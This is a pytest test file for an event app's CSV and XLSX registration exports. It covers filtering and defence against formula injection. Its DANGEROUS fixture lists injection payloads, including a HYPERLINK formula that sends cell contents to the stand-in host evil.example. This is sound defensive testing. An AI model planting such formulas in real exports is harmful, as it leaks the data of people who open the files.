"""The desk's exports: every registration as CSV and XLSX, filtered as the desk, formula-safe."""

from __future__ import annotations

import csv
import html as htmllib
import io
import re

import pytest
import sqlalchemy as sa
from flask.testing import FlaskClient
from openpyxl import load_workbook

from eventapp.extensions import db
from eventapp.models import Meeting, Participant
from tests.factories import DEMO_SLUG, make_account, open_meeting
from tests.helpers import sign_in

CSV = f"/meetings/{DEMO_SLUG}/manage/registrations.csv"
XLSX = f"/meetings/{DEMO_SLUG}/manage/registrations.xlsx"
ORGANISER = "exports@example.org"

# Values a spreadsheet would run as a formula, and what each becomes in the CSV.
DANGEROUS = {
    "p-pending": ("=1+1", "'=1+1"),
    "p-late": ("+1", "'+1"),
    "p-dos": ("-1", "'-1"),
    "p-traffic": ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    "p-freeland": (
        '=HYPERLINK("http://evil.example/?"&A1,"x")',
        """'=HYPERLINK("http://evil.example/?"&A1,"x")""",
    ),
    "p-za-1": ("\tcmd", "'\tcmd"),
    "p-ke-1": ("<script>alert(1)</script>", "<script>alert(1)</script>"),
}


@pytest.fixture
def exports(client: FlaskClient) -> Meeting:
    meeting = open_meeting()
    make_account(ORGANISER, "organiser", meeting=meeting)
    assert sign_in(client, ORGANISER).status_code == 302
    return meeting


def _csv(client: FlaskClient, query: str = "") -> list[dict[str, str]]:
    response = client.get(CSV + query)
    assert response.status_code == 200
    body = response.data.decode("utf-8")
    assert body.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(body.removeprefix("\ufeff"))))


def _xlsx(client: FlaskClient, query: str = "") -> list[list[object]]:
    response = client.get(XLSX + query)
    assert response.status_code == 200
    book = load_workbook(io.BytesIO(response.data))
    return [[cell.value for cell in row] for row in book.active.iter_rows()]


def test_csv_has_every_registration_with_its_details(client: FlaskClient, exports: Meeting) -> None:
    response = client.get(CSV)
    assert response.mimetype == "text/csv"
    assert response.headers["Cache-Control"] == "no-store"
    assert (
        response.headers["Content-Disposition"]
        == f'attachment; filename="{DEMO_SLUG}-registrations.csv"'
    )
    rows = _csv(client)
    assert len(rows) == len(exports.participants)
    lucia = next(r for r in rows if r["Reference"] == "p-unodc")
    assert lucia["Given name"] == "Lucía" and lucia["Family name"] == "Ramírez"
    assert lucia["Organisation"] == "United Nations Office on Drugs and Crime (UNODC)"
    assert lucia["Kind of organisation"] == "Intergovernmental organisation"
    assert lucia["Status"] == "Approved"
    assert lucia["E-mail address"] == "p-unodc@example.org"
    ke = next(r for r in rows if r["Reference"] == "p-ke-1")
    assert (ke["Travel support granted"], ke["Visa letter"]) == ("yes", "yes")
    late = next(r for r in rows if r["Reference"] == "p-late")
    assert late["Status"] == "Waiting list" and late["Travel support granted"] == ""
    assert "Registered (Asia/Bangkok)" in rows[0]


def test_xlsx_is_readable_and_has_the_same_rows(client: FlaskClient, exports: Meeting) -> None:
    response = client.get(XLSX)
    assert response.mimetype == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert response.headers["Cache-Control"] == "no-store"
    assert response.headers["Content-Disposition"].endswith('-registrations.xlsx"')
    rows = _xlsx(client)
    heading, *people = rows
    assert heading[:4] == ["Reference", "Title", "Given name", "Family name"]
    assert len(people) == len(exports.participants)
    by_ref = {row[0]: row for row in people}
    assert by_ref["p-asean-2"][2:4] == ["Nguyễn Thị", "Lan"]
    # The same rows in the same order as the CSV (the desk's order: by name).
    assert [r["Reference"] for r in _csv(client)] == [r[0] for r in people]


@pytest.mark.parametrize(
    ("query", "expected"),
    [
        ("?status=waitlisted", {"p-late"}),
        ("?kind=cso", {"p-traffic", "p-pending", "p-freeland"}),
        ("?q=lucia", {"p-unodc"}),
        ("?organisation=th&status=approved", {"p-th-1"}),
        ("?visa_letter=yes&kind=country", {"p-ke-1"}),
        ("?q=nobody-at-all", set()),
    ],
)
def test_exports_are_filtered_as_the_desk(
    client: FlaskClient, exports: Meeting, query: str, expected: set[str]
) -> None:
    assert {r["Reference"] for r in _csv(client, query)} == expected
    assert {r[0] for r in _xlsx(client, query)[1:]} == expected


def test_every_export_link_on_the_desk_carries_the_filters(
    client: FlaskClient, exports: Meeting
) -> None:
    page = client.get(f"/meetings/{DEMO_SLUG}/manage/?status=approved&q=ram%C3%ADrez&page=1")
    links = [
        htmllib.unescape(link)
        for link in re.findall(
            r'href="([^"]*registrations\.(?:csv|xlsx)[^"]*)"', page.get_data(as_text=True)
        )
    ]
    assert len(links) == 2
    for link in links:
        assert "status=approved" in link and "q=ram%C3%ADrez" in link
        assert {r["Reference"] for r in _csv(client, "?" + link.split("?", 1)[1])} == {"p-unodc"}


def test_a_bad_filter_is_refused_on_the_desk_page(client: FlaskClient, exports: Meeting) -> None:
    for path in (CSV, XLSX):
        response = client.get(path + "?status=maybe")
        assert response.status_code == 400
        assert "There is a problem" in response.get_data(as_text=True)


def _make_dangerous() -> None:
    for ref, (value, _) in DANGEROUS.items():
        person = db.session.scalar(sa.select(Participant).where(Participant.ref == ref))
        assert person is not None
        person.given_name = value
        person.position = value
    db.session.commit()


def test_no_csv_value_runs_as_a_formula(client: FlaskClient, exports: Meeting) -> None:
    _make_dangerous()
    rows = {r["Reference"]: r for r in _csv(client)}
    for ref, (_, written) in DANGEROUS.items():
        assert rows[ref]["Given name"] == written, ref
        assert rows[ref]["Position"] == written, ref
    # Nothing in the whole file begins a cell with a formula character.
    for row in rows.values():
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value


def test_no_xlsx_value_is_a_formula(client: FlaskClient, exports: Meeting) -> None:
    _make_dangerous()
    response = client.get(XLSX)
    book = load_workbook(io.BytesIO(response.data))
    sheet = book.active
    given = {row[0].value: row[2] for row in sheet.iter_rows(min_row=2)}
    for ref, (value, _) in DANGEROUS.items():
        cell = given[ref]
        assert cell.data_type == "s", (ref, cell.data_type)
        assert cell.value == value, ref
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
